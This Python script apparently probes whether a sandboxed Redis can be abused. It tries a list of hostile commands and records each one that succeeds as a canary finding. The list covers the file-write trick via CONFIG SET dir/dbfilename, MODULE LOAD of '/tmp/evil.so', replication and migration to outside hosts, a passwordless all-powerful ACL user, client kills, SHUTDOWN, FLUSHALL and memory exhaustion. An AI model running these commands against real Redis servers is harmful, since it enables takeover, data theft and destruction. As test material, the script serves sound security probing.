"""Wrecks Redis, and has it write files, load code and talk to others."""

import stores
import vault
from target import HOSTS, MARK, PORT

FOLDER, _, NAME = MARK.rpartition("/")
COMMANDS = [
    ("CONFIG", "SET", "dir", FOLDER),
    ("CONFIG", "SET", "dbfilename", NAME),
    ("CONFIG", "SET", "save", "1 1"),
    ("CONFIG", "SET", "appendonly", "yes"),
    ("CONFIG", "SET", "maxmemory", "0"),
    ("CONFIG", "SET", "requirepass", "mine"),
    ("CONFIG", "REWRITE"),
    ("SAVE",),
    ("BGSAVE",),
    ("BGREWRITEAOF",),
    *(("REPLICAOF", host, PORT) for host in HOSTS),
    *(("MIGRATE", host, PORT, "key", 0, 500) for host in HOSTS),
    ("CLUSTER", "MEET", HOSTS[0], PORT),
    ("FAILOVER",),
    ("PSYNC", "?", "-1"),
    ("MODULE", "LOAD", "/tmp/evil.so"),
    ("ACL", "SETUSER", "mine", "on", "nopass", "~*", "+@all"),
    ("ACL", "LIST"),
    ("DEBUG", "SLEEP", "0"),
    ("CLIENT", "KILL", "TYPE", "normal", "SKIPME", "yes"),
    ("CLIENT", "PAUSE", "60000"),
    ("SCRIPT", "DEBUG", "YES"),
    ("SHUTDOWN", "NOSAVE"),
]

redis = stores.Redis()
redis.run("SET", "key", "CANARY")
found = [f"CANARY {' '.join(map(str, words))}" for words in COMMANDS if vault.tried(lambda: redis.run(*words))]
redis = stores.Redis()
redis.run("FLUSHALL")
held = 0
while held < 1024 and vault.tried(lambda: redis.run("SET", f"filler{held}", bytes(1 << 20))):
    held += 1
if held >= 1024:
    found.append("CANARY a gigabyte in Redis")
vault.carry_off(found)
